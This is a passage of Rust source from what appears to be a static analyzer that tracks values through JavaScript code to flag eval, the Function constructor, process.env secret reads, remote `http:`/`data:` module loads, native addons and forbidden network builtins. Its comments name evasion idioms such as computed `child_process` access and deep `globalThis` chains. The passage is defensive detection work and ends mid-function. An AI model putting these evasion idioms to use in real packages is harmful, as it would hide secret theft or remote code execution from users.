    /// The tracked value a promise is rejected with: `Promise.reject(x)`, a
    /// call to a local function or a method that throws (an async
    /// function's throw rejects its promise), a `new Promise` its executor
    /// rejects, a variable bound to such a promise, or any of them through
    /// `.then` / `.finally`, which pass a rejection on.
    fn rejection_val(&self, promise: &Expression<'_>) -> Option<Val> {
        let mut e = promise.get_inner_expression();
        for _ in 0..MAX_REJECTION_HOPS {
            let c = match e {
                Expression::CallExpression(c) => c,
                Expression::NewExpression(n) => {
                    return self.rejected.get(&n.span.start).and_then(|v| v.pick(self.syms.world))
                }
                Expression::Identifier(id) => return self.symbol_of(id).and_then(|s| self.syms.thrv(s)),
                _ => return None,
            };
            if global_method(&c.callee, self.scoping) == Some(("Promise", "reject")) {
                let v = self.val(c.arguments.first()?.as_expression()?)?;
                return self.trackable(v).then_some(v);
            }
            match c.callee.get_inner_expression() {
                Expression::Identifier(id) => return self.symbol_of(id).and_then(|s| self.syms.thrv(s)),
                Expression::StaticMemberExpression(m) if matches!(m.property.name.as_str(), "then" | "finally") => {
                    e = m.object.get_inner_expression();
                }
                other => return self.method_thrown(other),
            }
        }
        None
    }

    /// How many worlds the file needs (table entries, shapes, choice points).
    fn worlds_needed(&self) -> usize {
        self.worlds.max(self.choices.get()).min(MAX_WORLDS)
    }

    /// The value of a choice point of an expression (a conditional's
    /// branches, a logical operator's operands, an element of an array
    /// built from literals, the returns of an immediately-invoked function)
    /// in this pass's world, read as a table entry holding the alternatives'
    /// values would be ([`Vals`]: repeats dropped, an untracked value only
    /// alone; world `k` takes the `k`-th or the last), so that a decoy
    /// first does not hide a later alternative. Notes how many worlds the
    /// choice needs.
    fn choose(&self, alts: impl IntoIterator<Item = Option<Val>>) -> Option<Val> {
        let world = self.syms.world;
        let mut held = [Val::Lit; MAX_WORLDS];
        let (mut n, mut picked) = (0, None);
        for v in alts.into_iter().flatten() {
            if n > 0 && (!v.is_trackable_member() || held[..n.min(MAX_WORLDS)].contains(&v)) {
                continue;
            }
            if let Some(slot) = held.get_mut(n) {
                *slot = v;
            }
            if n <= world {
                picked = Some(v);
            }
            n += 1;
        }
        if n > self.choices.get() {
            self.choices.set(n);
        }
        picked
    }

    /// What the method `name` of an object built from literals returns, in
    /// this world (see [`Walker::choose`]).
    fn method_returned(&self, id: u32, name: &str) -> Option<Val> {
        self.method_returned_d(id, name, 0)
    }

    /// (A method the object lacks: its prototype's, `d` links up.)
    fn method_returned_d(&self, id: u32, name: &str, d: u32) -> Option<Val> {
        let sh = self.shape(id)?;
        if sh.rets.iter().any(|(k, _)| k == name) {
            return self.choose(sh.rets.iter().filter(|(k, _)| k == name).map(|(_, v)| Some(*v)));
        }
        match sh.proto().filter(|_| !self.hides(id, name)) {
            Some(Val::Obj(p)) if d < MAX_SHAPE_DEPTH => self.method_returned_d(p, name, d + 1),
            _ => None,
        }
    }

    /// Every element of an array built from literals, a powerful one first
    /// (the one the first world reads).
    fn elements(&self, id: u32) -> Vec<Val> {
        let Some(sh) = self.shape(id) else { return Vec::new() };
        let all = || sh.keys.iter().map(|(_, v)| *v).chain(sh.unknown.iter().copied());
        let first = all().position(|v| v.is_powerful_member()).unwrap_or(0);
        let mut out: Vec<Val> = all().collect();
        if first > 0 {
            out[..=first].rotate_right(1);
        }
        out
    }

    /// The element an element-returning array method gives in this world
    /// (a powerful one in the first; see [`Walker::choose`]).
    fn some_element(&self, id: u32) -> Option<Val> {
        let sh = self.shape(id)?;
        let all = || sh.keys.iter().map(|(_, v)| *v).chain(sh.unknown.iter().copied());
        let first = all().find(|v| v.is_powerful_member()).or_else(|| all().next());
        self.choose(std::iter::once(first).chain(all().map(Some)))
    }

    /// Add members to a shape (monotone: a key keeps every value stored at
    /// it; a key or unknown member holding several makes as many worlds).
    fn merge_shape(&mut self, id: u32, add: Shape) {
        if add.is_empty() {
            return;
        }
        let mut changed = !self.shapes.contains_key(&id);
        let sh = self.shapes.entry(id).or_default();
        let mut worlds = self.worlds;
        for (k, v) in add.keys {
            let (mut at_key, mut held) = (0, false);
            for (k2, v2) in &sh.keys {
                if *k2 == k {
                    at_key += 1;
                    held |= *v2 == v;
                }
            }
            if !held {
                sh.keys.push((k, v));
                worlds = worlds.max(at_key + 1);
                changed = true;
            }
        }
        for v in add.unknown {
            if !sh.unknown.contains(&v) {
                sh.unknown.push(v);
                worlds = worlds.max(sh.unknown.len());
                changed = true;
            }
        }
        for (k, v) in add.rets {
            if !sh.rets.iter().any(|(k2, v2)| *k2 == k && *v2 == v) {
                sh.rets.push((k, v));
                changed = true;
            }
        }

        self.worlds = worlds;
        for v in add.copies {
            if v != Val::Obj(id) && !sh.copies.contains(&v) {
                sh.copies.push(v);
                changed = true;
            }
        }
        if changed {
            self.syms.clock += 1;
            self.shape_ver.insert(id, self.syms.clock);
            if self.shapes_read.get_mut().contains(id) {
                self.stale = true;
            }
        }
    }

    fn fold(&self, e: &Expression<'_>) -> Option<String> {
        fold_with(e, 0, &|id| self.ident_str(id))
    }

    /// The constant string a name's binding holds; none inside `with`
    /// blocks whose object holds strings there (the object's member, which
    /// may be changed, is what [`Walker::fold_specs`] follows).
    fn ident_str(&self, id: &IdentifierReference<'_>) -> Option<String> {
        if self.with_held(id).is_some() {
            return None;
        }
        self.symbol_of(id).and_then(|s| self.syms.str(s).cloned())
    }

    /// The strings a name inside `with` blocks reads from the innermost
    /// object known to hold any there ([`Specs::with_held`]).
    #[inline]
    fn with_held(&self, id: &IdentifierReference<'_>) -> Option<Vec<String>> {
        if self.with_stack.is_empty() {
            return None;
        }
        let decls = self.decls.get_or_init(|| Decls::of(self.program));
        Specs::new(self.scoping, decls, &|s| self.syms.str(s).cloned()).with_held(id, 0)
    }

    /// The specifiers a `require` or `import()` argument that chooses
    /// between constants (or that [`Specs`] follows) may load (see [`fold_choices`]); asked only where [`Walker::fold`]
    /// found no single string.
    fn fold_specs(&self, e: &Expression<'_>) -> Vec<String> {
        fold_choices(e, 0, &|id| self.ident_str(id))
            .or_else(|| {
                let decls = self.decls.get_or_init(|| Decls::of(self.program));
                Specs::new(self.scoping, decls, &|s| self.syms.str(s).cloned()).strings(e, 0)
            })
            .unwrap_or_default()
    }

    /// The module a `require` or `import()` of the specifier `a` gives: the
    /// one it folds to, else one of the tracked modules its choices or
    /// followed strings name, per world (others give no value).
    fn spec_val(&self, a: &Expression<'_>) -> Option<Val> {
        match self.fold(a) {
            Some(spec) => Some(Val::Mod(builtin_of(&spec))),
            None => self.choose(
                self.fold_specs(a)
                    .iter()
                    .map(|s| Val::Mod(builtin_of(s)))
                    .filter(|v| v.is_trackable_member())
                    .map(Some),
            ),
        }
    }

    /// The abstract value of an expression (pure).
    fn val(&self, e: &Expression<'_>) -> Option<Val> {
        self.val_d(e, 0)
    }

    fn val_d(&self, e: &Expression<'_>, d: u32) -> Option<Val> {
        if d > 64 {
            self.cut.set(true);
            return self.past_bound(e);
        }
        match e {
            Expression::Identifier(id) => {
                if let Some(v) = self.with_member(id.name.as_str()) {
                    return Some(v);
                }
                match self.symbol_of(id) {
                    Some(s) => self
                        .syms
                        .val(s)
                        .or_else(|| (id.name.as_str() == "pi").then_some(Val::Pi)),
                    None if self.fn_depth == 0 && id.name.as_str() == "arguments" => Some(Val::CjsArgs),
                    None => global(id.name.as_str()),
                }
            }
            Expression::ThisExpression(_) => self.this_global.then_some(Val::SloppyThis),
            Expression::Super(sup) => self.super_val(sup.span.start),
            Expression::NewExpression(n) => self.new_val(n, d + 1),
            Expression::StaticMemberExpression(m) => {
                let name = m.property.name.as_str();
                self.this_member(&m.object, name)
                    .or_else(|| self.mem(self.val_d(&m.object, d + 1), name))
            }
            Expression::ComputedMemberExpression(m) => self.computed_val(m, d + 1),
            Expression::ParenthesizedExpression(p) => self.val_d(&p.expression, d + 1),
            Expression::TSAsExpression(x) => self.val_d(&x.expression, d + 1),
            Expression::TSSatisfiesExpression(x) => self.val_d(&x.expression, d + 1),
            Expression::TSNonNullExpression(x) => self.val_d(&x.expression, d + 1),
            Expression::TSTypeAssertion(x) => self.val_d(&x.expression, d + 1),
            Expression::TSInstantiationExpression(x) => self.val_d(&x.expression, d + 1),
            Expression::AwaitExpression(x) => self.val_d(&x.argument, d + 1),
            Expression::SequenceExpression(s) => s.expressions.last().and_then(|x| self.val_d(x, d + 1)),
            Expression::AssignmentExpression(a) => self.val_d(&a.right, d + 1),
            // Either branch, either operand (one per world).
            Expression::ConditionalExpression(c) => {
                self.choose([self.val_d(&c.consequent, d + 1), self.val_d(&c.alternate, d + 1)])
            }
            Expression::LogicalExpression(l) => self.choose([self.val_d(&l.left, d + 1), self.val_d(&l.right, d + 1)]),
            Expression::ChainExpression(c) => match &c.expression {
                ChainElement::CallExpression(call) => self.call_val(call, d + 1),
                ChainElement::TSNonNullExpression(x) => self.val_d(&x.expression, d + 1),
                other => other.as_member_expression().and_then(|m| match m {
                    MemberExpression::StaticMemberExpression(m) => {
                        self.mem(self.val_d(&m.object, d + 1), m.property.name.as_str())
                    }
                    MemberExpression::ComputedMemberExpression(m) => self.computed_val(m, d + 1),
                    MemberExpression::PrivateFieldExpression(_) => None,
                }),
            },
            Expression::FunctionExpression(_)
            | Expression::ArrowFunctionExpression(_)
            | Expression::ClassExpression(_) => Some(Val::FnValue),
            Expression::ArrayExpression(a) => Some(Val::Obj(a.span.start)),
            Expression::ObjectExpression(o) => Some(Val::Obj(o.span.start)),
            Expression::StringLiteral(_) | Expression::TemplateLiteral(_) | Expression::RegExpLiteral(_) => {
                Some(Val::Lit)
            }
            Expression::CallExpression(c) => self.call_val(c, d + 1),
            Expression::ImportExpression(i) => self.spec_val(&i.source),
            _ => None,
        }
    }

    /// The value of a computed member, optional (`o?.[k]`) or not: the
    /// member at its key when the key folds, else
    /// [`Walker::followed_key_member`].
    fn computed_val(&self, m: &ComputedMemberExpression<'_>, d: u32) -> Option<Val> {
        match self.fold(&m.expression) {
            Some(k) => self
                .this_member(&m.object, &k)
                .or_else(|| self.mem(self.val_d(&m.object, d), &k)),
            None => self.followed_key_member(m, d),
        }
    }

    /// The member of a module at a key that does not fold (`cp[m()]`,
    /// `cp[o.k]`, `cp[name]` with `name` a parameter, `cp?.[m()]`,
    /// `require('child_process')[m()]`): one of the module's tracked members
    /// among the key's followed strings, per world (see [`Walker::choose`]).
    /// Only an object that is a name or a call of a name (a `require`) is
    /// evaluated; another gives none.
    fn followed_key_member(&self, m: &ComputedMemberExpression<'_>, d: u32) -> Option<Val> {
        match m.object.get_inner_expression() {
            Expression::Identifier(_) => {}
            Expression::CallExpression(c) if matches!(c.callee.get_inner_expression(), Expression::Identifier(_)) => {}
            _ => return None,
        }
        let ov = self.val_d(&m.object, d)?;
        if !matches!(ov, Val::Mod(b) if b != Builtin::Other) {
            return None;
        }
        self.choose(
            self.fold_specs(&m.expression)
                .iter()
                .map(|k| self.mem(Some(ov), k))
                .filter(|v| v.is_some_and(Val::is_trackable_member)),
        )
    }

    /// What a value depends on besides the expression: the tables and shapes
    /// (the clock), what this pass has noted and logged (the seal epoch), and
    /// the walker's context ([`Walker::ctx`]). While it holds, evaluating an
    /// expression again gives the same value and notes nothing new (its reads
    /// were noted and logged in this epoch; only repeated shape reads would be
    /// logged again, which change nothing).
    #[inline]
    fn hint_stamp(&self) -> [u32; 3] {
        [self.syms.epoch.get(), self.syms.clock, self.ctx]
    }

    /// [`Walker::val_d`] of a static member expression (the same value),
    /// leaving the value of its object, and of the objects of the static
    /// member expressions it is built on, as hints for their visits: the walk
    /// visits `a.b.c` and then `a.b`, whose values the first evaluation
    /// already computed (one evaluation per level instead of one per level
    /// and node above it).
    fn member_val(&self, m: &StaticMemberExpression<'_>, d: u32) -> Option<Val> {
        if d > 64 {
            self.cut.set(true);
            return self.mem(Some(Val::Global), m.property.name.as_str());
        }
        if let Some(v) = self.this_member(&m.object, m.property.name.as_str()) {
            return Some(v);
        }
        let outer = self.cut.replace(false);
        let ov = match &m.object {
            Expression::StaticMemberExpression(inner) => self.member_val(inner, d + 1),
            other => self.val_d(other, d + 1),
        };
        let cut = self.cut.get();
        if !cut {
            self.hints.borrow_mut().push(Hint {
                key: std::ptr::from_ref(m) as usize,
                stamp: self.hint_stamp(),
                depth: d + 1,
                val: ov,
            });
        }
        self.cut.set(outer || cut);
        self.mem(ov, m.property.name.as_str())
    }

    /// `val_d(&m.object, d)` from the last hint when it is the one for `m`,
    /// still holds, and was computed at a depth of at least `d` (a value that
    /// did not meet the bound from there does not from `d` either, and is the
    /// same); otherwise evaluated (leaving hints below).
    fn object_val(&self, m: &StaticMemberExpression<'_>, d: u32) -> Option<Val> {
        let key = std::ptr::from_ref(m) as usize;
        if self.hints_on {
            let mut hints = self.hints.borrow_mut();
            if let Some(h) = hints.last().copied() {
                if h.key == key && h.stamp == self.hint_stamp() && h.depth >= d {
                    hints.pop();
                    return h.val;
                }
            }
        }
        match &m.object {
            Expression::StaticMemberExpression(inner) => self.member_val(inner, d),
            other => self.val_d(other, d),
        }
    }

    /// The value of `e` at the evaluation's depth bound, where its object is
    /// not evaluated: a member access is judged as one on the global object
    /// (the object might be anything, the global object too), so a chain
    /// deeper than the bound does not hide what it reaches (`globalThis`
    /// followed by 65 `.globalThis`, then `.eval`); a name or `this` is read
    /// as anywhere (a leaf: nothing below it is evaluated); anything else has
    /// no value.
    fn past_bound(&self, e: &Expression<'_>) -> Option<Val> {
        match e {
            Expression::Identifier(_) | Expression::ThisExpression(_) => self.val_d(e, 0),
            Expression::StaticMemberExpression(m) => self.mem(Some(Val::Global), m.property.name.as_str()),
            Expression::ComputedMemberExpression(m) => {
                let k = self.fold(&m.expression)?;
                self.mem(Some(Val::Global), &k)
            }
            _ => None,
        }
    }

    /// [`Walker::val`] of an expression about to be visited: a static member
    /// expression leaves hints for its visit.
    fn val_hinted(&self, e: &Expression<'_>) -> Option<Val> {
        match e {
            Expression::StaticMemberExpression(m) => self.member_val(m, 0),
            _ => self.val(e),
        }
    }

    /// What a name inside `with (o)` statements refers to when `o` has it.
    #[inline]
    fn with_member(&self, name: &str) -> Option<Val> {
        if self.with_stack.is_empty() {
            return None;
        }
        self.with_member_slow(name)
    }

    fn with_member_slow(&self, name: &str) -> Option<Val> {
        self.with_stack
            .iter()
            .rev()
            .find_map(|w| w.and_then(|w| self.with_own(w, name)))
    }

    /// The member `name` of the `with` object `w` when `w` is known to hold
    /// a followed value there; otherwise the name may resolve outside (to
    /// the global `require`, `eval`, a parameter), so it is not `w`'s.
    fn with_own(&self, w: Val, name: &str) -> Option<Val> {
        self.mem(Some(w), name).filter(|v| self.trackable(*v))
    }

    /// The value of `new C(…)`: a module object from the Module class; the
    /// target of a `Proxy` (its reads reach the target's members).
    fn new_val(&self, n: &NewExpression<'_>, d: u32) -> Option<Val> {
        if let Expression::Identifier(id) = n.callee.get_inner_expression() {
            if id.name.as_str() == "Proxy" && self.symbol_of(id).is_none() {
                return n.arguments.first()?.as_expression().and_then(|e| self.val_d(e, d + 1));
            }
            // An instance of a class whose methods return tracked values.
            if let Some(s) = self.symbol_of(id) {
                let at = class_shape_ids(self.scoping, s).0;
                if self.shape(at).is_some() {
                    return Some(Val::Obj(at));
                }
            }
        }
        (self.val_d(&n.callee, d + 1)? == Val::Module).then_some(Val::Module)
    }

    /// The value an immediately-invoked function or arrow returns (an arrow's
    /// expression body, one of a function's `return`s per world: the first
    /// top-level one in the first world, see [`Walker::choose`]).
    fn iife_val(&self, callee: &Expression<'_>, d: u32) -> Option<Val> {
        self.returned_val(callee, true, d)
    }

    /// The value a function or arrow expression returns (see
    /// [`Walker::iife_val`]); `plain_call`: whether it is called plainly (its
    /// `this` then the global object in sloppy mode).
    fn returned_val(&self, callee: &Expression<'_>, plain_call: bool, d: u32) -> Option<Val> {
        let (body, own_this) = match callee.get_inner_expression() {
            Expression::ArrowFunctionExpression(a) => match a.get_function_body() {
                Some(b) => (b, false),
                None => return a.get_expression().and_then(|e| self.val_d(e, d + 1)),
            },
            Expression::FunctionExpression(f) => (&**f.body.as_ref()?, true),
            _ => return None,
        };
        // A plainly called sloppy-mode function's `this` is the global object.
        let sloppy = plain_call && own_this && !self.strict && !has_use_strict(&body.directives);
        let ret = |r: &ReturnStatement<'_>| match r.argument.as_ref().map(|e| e.get_inner_expression()) {
            Some(Expression::ThisExpression(_)) if own_this => sloppy.then_some(Val::SloppyThis),
            Some(e) => self.val_d(e, d + 1),
            None => None,
        };
        let first = body.statements.iter().find_map(|st| match st {
            Statement::ReturnStatement(r) => ret(r),
            _ => None,
        });
        let mut all = Vec::new();
        returns_in(&body.statements, &mut all, 0);
        if all.len() < 2 {
            return first;
        }
        self.choose(std::iter::once(first).chain(all.into_iter().map(ret)))
    }

    /// Every tracked value a method (a function or arrow expression) may
    /// return, for [`Shape::rets`]: all of them, read one per world only
    /// where the method is called ([`Walker::method_returned`]). A method's
    /// `this` is its object, not a tracked value.
    fn method_returns(&self, f: &Expression<'_>) -> Vec<Val> {
        let body = match f.get_inner_expression() {
            Expression::ArrowFunctionExpression(a) => match a.get_function_body() {
                Some(b) => b,
                None => {
                    return a
                        .get_expression()
                        .and_then(|e| self.val(e))
                        .filter(|v| self.trackable(*v))
                        .into_iter()
                        .collect()
                }
            },
            Expression::FunctionExpression(f) => return self.function_returns(f),
            _ => return Vec::new(),
        };
        self.body_returns(body)
    }

    /// The shapes of a class bound to `o` (see [`class_shape_ids`]): what its
    /// methods (and function-valued fields) return, by method name, for
    /// calls `new K().m()` / `k.m()` (instance) and `K.m()` (static); what
    /// its instance getters return, as members `new K().g`. A class none of
    /// whose methods returns a tracked value has none (its instances stay
    /// untracked).
    fn class_shapes(&mut self, it: &Class<'_>, o: SymbolId) {
        let (mut inst, mut stat) = (Shape::default(), Shape::default());
        // The names the class defines itself (instance, static): they hide
        // the parent's.
        let mut own: [Vec<String>; 2] = Default::default();
        let parent = self.parent_class(it);
        for el in &it.body.body {
            let (key, computed, is_static, rets, getter) = match el {
                ClassElement::MethodDefinition(md) => match md.kind {
                    MethodDefinitionKind::Method => (
                        &md.key,
                        md.computed,
                        md.r#static,
                        self.function_returns(&md.value),
                        false,
                    ),
                    MethodDefinitionKind::Get => (
                        &md.key,
                        md.computed,
                        md.r#static,
                        self.function_returns(&md.value),
                        true,
                    ),
                    _ => continue,
                },
                ClassElement::PropertyDefinition(pd) => match pd.value.as_ref().filter(|v| is_function_expr(v)) {
                    Some(v) => (&pd.key, pd.computed, pd.r#static, self.method_returns(v), false),
                    None => continue,
                },
                _ => continue,
            };
            // (Names are kept only to hide a parent's.)
            if rets.is_empty() && parent.is_none() {
                continue;
            }
            let k = if computed {
                key.as_expression().and_then(|e| self.fold(e))
            } else {
                key_name(key)
            };
            let Some(k) = k else { continue };
            own[usize::from(is_static)].push(k.clone());
            let sh = if is_static { &mut stat } else { &mut inst };
            let to = if getter { &mut sh.keys } else { &mut sh.rets };
            to.extend(rets.into_iter().map(|r| (k.clone(), r)));
        }
        // A subclass has what its parent's methods and getters return
        // (`class B extends A {}; new B().m()`, `B.r()`), where it does not
        // define the name itself.
        if let Some(p) = parent {
            let (pi, ps) = class_shape_ids(self.scoping, p);
            for (from, own, to) in [(pi, &own[0], &mut inst), (ps, &own[1], &mut stat)] {
                if let Some(sh) = self.shape(from) {
                    let kept = |(k, _): &&(String, Val)| !own.contains(k);
                    to.keys.extend(sh.keys.iter().filter(kept).cloned());
                    to.rets.extend(sh.rets.iter().filter(kept).cloned());
                }
            }
        }
        let (i, st) = class_shape_ids(self.scoping, o);
        if !inst.is_empty() {
            self.merge_shape(i, inst);
        }
        if !stat.is_empty() {
            self.merge_shape(st, stat);
        }
    }

    /// The class or constructor function a class `extends`, when it is a name.
    fn parent_class(&self, it: &Class<'_>) -> Option<SymbolId> {
        let Expression::Identifier(id) = it.heritage.as_ref()?.expression.get_inner_expression() else {
            return None;
        };
        self.symbol_of(id).filter(|s| self.is_class_like(*s))
    }

    /// Whether the name is bound to a class or a function (whose shapes
    /// [`class_shape_ids`] names).
    fn is_class_like(&self, s: SymbolId) -> bool {
        self.syms.val(s) == Some(Val::FnValue)
            || self
                .scoping
                .symbol_flags(s)
                .intersects(SymbolFlags::Class | SymbolFlags::Function)
    }

    /// Note what `super` is in the methods of a class that `extends` a name
    /// (see [`Walker::super_val`]).
    fn note_supers(&mut self, it: &Class<'_>) {
        let Some(p) = self.parent_class(it) else { return };
        let (pi, ps) = class_shape_ids(self.scoping, p);
        for el in &it.body.body {
            let (f, is_static) = match el {
                ClassElement::MethodDefinition(md) => (md.value.span, md.r#static),
                ClassElement::PropertyDefinition(pd) => match pd.value.as_ref().filter(|v| is_function_expr(v)) {
                    Some(v) => (v.get_inner_expression().span(), pd.r#static),
                    None => continue,
                },
                _ => continue,
            };
            let at = (f.start, f.end, if is_static { ps } else { pi });
            if !self.supers.contains(&at) {
                self.supers.push(at);
            }
        }
    }

    /// `super` at `at`: the parent's instances (the parent itself in a
    /// static method), when they have a shape.
    fn super_val(&self, at: u32) -> Option<Val> {
        let Some(&(_, _, id)) = self
            .supers
            .iter()
            .filter(|(s, e, _)| *s <= at && at < *e)
            .max_by_key(|(s, _, _)| *s)
        else {
            // An object literal's method: the literal's prototype.
            let l = *self.literal_supers.get(&at)?;
            return self
                .mem(Some(Val::Obj(l)), "__proto__")
                .filter(|v| matches!(v, Val::Obj(_)));
        };
        self.shape(id).map(|_| Val::Obj(id))
    }

    /// Has the object literal starting at `id` an own member `name` (which
    /// hides its prototype's)?
    fn hides(&self, id: u32, name: &str) -> bool {
        self.own_names.get(&id).is_some_and(|ns| ns.iter().any(|k| k == name))
    }

    /// `Object.setPrototypeOf(o, p)` of an object built from literals: `p`
    /// is its `__proto__` member (the members it lacks, `super` in its
    /// methods).
    fn set_prototype(&mut self, args: &[Argument<'_>]) {
        let val = |i: usize| args.get(i).and_then(|a| self.val(a.as_expression()?));
        if let (Some(Val::Obj(o)), Some(p)) = (val(0), val(1).filter(|p| self.trackable(*p))) {
            let add = Shape {
                keys: vec![("__proto__".to_string(), p)],
                ..Shape::default()
            };
            self.merge_shape(o, add);
        }
    }

    /// Copy the members and methods of the objects built from literals
    /// among `vals` into the shape `t` (`Object.assign(K.prototype, {…})`).
    fn copy_members(&mut self, t: u32, vals: &[Val]) {
        let mut add = Shape::default();
        for v in vals {
            match v {
                Val::Obj(id) if *id != t => {
                    if let Some(sh) = self.shape(*id) {
                        add.keys.extend(sh.keys.iter().cloned());
                        add.unknown.extend(sh.unknown.iter().copied());
                        add.rets.extend(sh.rets.iter().cloned());
                    }
                }
                _ => {}
            }
        }
        self.merge_shape(t, add);
    }

    /// Every tracked value a function's `return`s give (see
    /// [`Walker::method_returns`]; class methods and getters too).
    fn function_returns(&self, f: &Function<'_>) -> Vec<Val> {
        f.body.as_ref().map(|b| self.body_returns(b)).unwrap_or_default()
    }

    fn body_returns(&self, body: &FunctionBody<'_>) -> Vec<Val> {
        let mut all = Vec::new();
        returns_in(&body.statements, &mut all, 0);
        all.iter()
            .filter_map(|r| r.argument.as_ref())
            .filter(|e| !matches!(e.get_inner_expression(), Expression::ThisExpression(_)))
            .filter_map(|e| self.val(e))
            .filter(|v| self.trackable(*v))
            .collect()
    }

    fn call_val(&self, c: &CallExpression<'_>, d: u32) -> Option<Val> {
        let arg0 = || c.arguments.first().and_then(|a| a.as_expression());
        if let Some((on, name)) = global_method(&c.callee, self.scoping) {
            match (on, name) {
                ("Object", "assign") => return Some(Val::Obj(c.span.start)),
                // Identity: the same object (or one inheriting all its members).
                ("Object", "freeze" | "seal" | "preventExtensions" | "create" | "setPrototypeOf")
                | ("Promise", "resolve") => {
                    return self.val_d(arg0()?, d + 1);
                }
                ("Object", "values") => {
                    return (self.val_d(arg0()?, d + 1)? == Val::Modules).then_some(Val::Modules);
                }
                // The prototype of a function is a function (whose
                // constructor is Function, AsyncFunction or GeneratorFunction).
                ("Object" | "Reflect", "getPrototypeOf") => {
                    return self
                        .val_d(arg0()?, d + 1)
                        .filter(|v| v.is_callable())
                        .map(|_| Val::FnValue);
                }
                _ => {}
            }
        }
        if let Some(v) = self.iife_val(&c.callee, d) {
            return Some(v);
        }
        if let Expression::Identifier(id) = c.callee.get_inner_expression() {
            if let Some(v) = self.symbol_of(id).and_then(|s| self.syms.retv(s)) {
                return Some(v);
            }
        }
        let callee = if let Expression::StaticMemberExpression(m) = c.callee.get_inner_expression() {
            // `f.bind(thisArg)` is `f`.
            let name = m.property.name.as_str();
            if name == "bind" {
                return self.val_d(&m.object, d + 1).filter(|v| v.is_callable());
            }
            // (The object evaluated once, at the depth `val_d` of the callee would.)
            let ov = self.val_d(&m.object, d + 2);
            if let Some(Val::Obj(id)) = ov {
                if ELEMENT_METHODS.contains(&name) {
                    return self.some_element(id);
                }
                // A method of an object built from literals returns what its `return`s give.
                if let Some(v) = self.method_returned(id, name) {
                    return Some(v);
                }
            }
            // `K.m()`: a static method of a class returns what its `return`s give.
            // (A declared class's name holds no value; a class expression's is a function.)
            if matches!(ov, None | Some(Val::FnValue)) {
                if let Expression::Identifier(k) = m.object.get_inner_expression() {
                    let class = self
                        .symbol_of(k)
                        .filter(|s| ov.is_some() || self.scoping.symbol_flags(*s).contains(SymbolFlags::Class));
                    if let Some(v) = class.and_then(|s| self.method_returned(class_shape_ids(self.scoping, s).1, name))
                    {
                        return Some(v);
                    }
                }
            }
            // (`this.f(…)`, `K.f(…)`: what the code stored there first.)
            self.this_member(&m.object, name).or_else(|| self.mem(ov, name))?
        } else {
            self.val_d(&c.callee, d + 1)?
        };
        let arg = |i: usize| c.arguments.get(i).and_then(|a| a.as_expression());
        match callee {
            Val::Require => self.spec_val(arg(0)?),
            Val::RequireFactory => Some(Val::Require),
            Val::ReflectGet => {
                let k = self.fold(arg(1)?)?;
                self.mem(self.val_d(arg(0)?, d + 1), &k)
            }
            Val::Api(Builtin::Http, Api::NetSend) => Some(Val::NetHandle),
            _ => None,
        }
    }

    /// Bind a pattern to a value and taint; destructured keys of a tracked
    /// value are findings where they obtain something dangerous.
    fn bind(&mut self, p: &Pat, v: Option<Val>, t: u8) {
        match p {
            Pat::Id(s) => {
                if let Some(v) = v {
                    self.set_val(*s, v);
                }
                // The whole environment, however it was reached (`const { env }
                // = process`, `Reflect.get(process, 'env')`), is the secret.
                let t = if v == Some(Val::ProcessEnv) { t | SECRET } else { t };
                self.set_taint(*s, t);
            }
            Pat::Obj(props, rest) => {
                for (key, span, sub) in props {
                    let (sv, st) = match key {
                        Some(k) => {
                            let sv = self.mem(v, k);
                            if v.is_some() {
                                self.obtained(v, k, sv, *span);
                            }
                            let st = if v == Some(Val::ProcessEnv) { ENVVAR } else { t };
                            (sv, st)
                        }
                        None => {
                            if self.powerful(v) {
                                self.hit(RuleId::DynamicAccess, *span);
                            }
                            (None, t)
                        }
                    };
                    self.bind(sub, sv, st);
                }
                if let Some(r) = rest {
                    let rt = if v == Some(Val::ProcessEnv) { SECRET } else { t };
                    self.bind(r, v, rt);
                }
            }
            Pat::Arr(items, rest) => {
                // Elements of an array built from literals (and of the CommonJS
                // wrapper's `arguments`) keep their values.
                let arr = matches!(v, Some(Val::Obj(_) | Val::CjsArgs));
                for (i, it) in items.iter().enumerate() {
                    // (what an element holds was reported where the array was built)
                    let ev = if arr { self.mem(v, &i.to_string()) } else { None };
                    self.bind(it, ev, t);
                }
                if let Some(r) = rest {
                    self.bind(r, None, t);
                }
            }
            Pat::Ignore => {}
        }
    }

    /// Bind a pattern to each of `vals` (the elements an iteration or a
    /// callback receives: the entry keeps them all), or to no value.
    fn bind_each(&mut self, p: &Pat, vals: &[Val], t: u8) {
        if vals.is_empty() {
            return self.bind(p, None, t);
        }
        for v in vals {
            self.bind(p, Some(*v), t);
        }
    }

    /// A member access `from.name` produced `got`: report what it obtains.
    fn obtained(&mut self, from: Option<Val>, name: &str, got: Option<Val>, span: Span) {
        let Some(g) = got else { return };
        if from == Some(g) {
            return;
        }
        // A member of an object built from literals was reported where it was
        // put there (it is an alias, not a new route), unless it is a member
        // of a value copied in (`{...process}.binding`), which was not.
        if let Some(Val::Obj(id)) = from {
            if !self.via_copy(id, name, 0) {
                return;
            }
        }
        match g {
            Val::Eval => self.hit(RuleId::EvalCall, span),
            // Reached through `.constructor`: reported where it is called or
            // escapes (`fn.constructor.name` is an ordinary idiom).
            Val::Function
                if from.is_some_and(|f| !matches!(f, Val::Global | Val::Reflect | Val::SloppyThis | Val::Obj(_))) => {}
            Val::Function => self.hit(RuleId::FunctionConstructor, span),
            Val::ProcessBinding => self.hit(RuleId::ProcessBinding, span),
            Val::ProcessDlopen => self.hit(RuleId::ProcessDlopen, span),
            Val::ProcessEnv => {
                self.hit(RuleId::ProcessEnv, span);
                self.caps.insert(Capability::Env);
            }
            Val::PiCap(c) if self.emit => self.caps.insert(c),
            _ => {}
        }
    }

    /// A module specifier is loaded at `span`.
    fn module(&mut self, spec: &str, span: Span) {
        if self.emit {
            self.specs.push(Specifier {
                spec: spec.to_string(),
                start: span.start,
            });
        }
        let b = spec.as_bytes();
        let starts = |p: &str| b.len() >= p.len() && b[..p.len()].eq_ignore_ascii_case(p.as_bytes());
        if starts("data:") {
            self.hit(RuleId::EvalCall, span);
            return;
        }
        if starts("http:") || starts("https:") {
            self.hit(RuleId::FetchAndRun, span);
            return;
        }
        let native = b.len() >= 5 && b[b.len() - 5..].eq_ignore_ascii_case(b".node");
        if native && (spec.starts_with('.') || spec.starts_with('/')) {
            self.hit(RuleId::NativeAddon, span);
            return;
        }
        match classify_module(spec) {
            ModuleClass::Forbidden => {
                self.hit(RuleId::ForbiddenBuiltin, span);
                if builtin_of(spec) == Builtin::Net {
                    self.effect(Effect::Network, RuleId::ForbiddenBuiltin, span);
                }
            }
            ModuleClass::Network => {
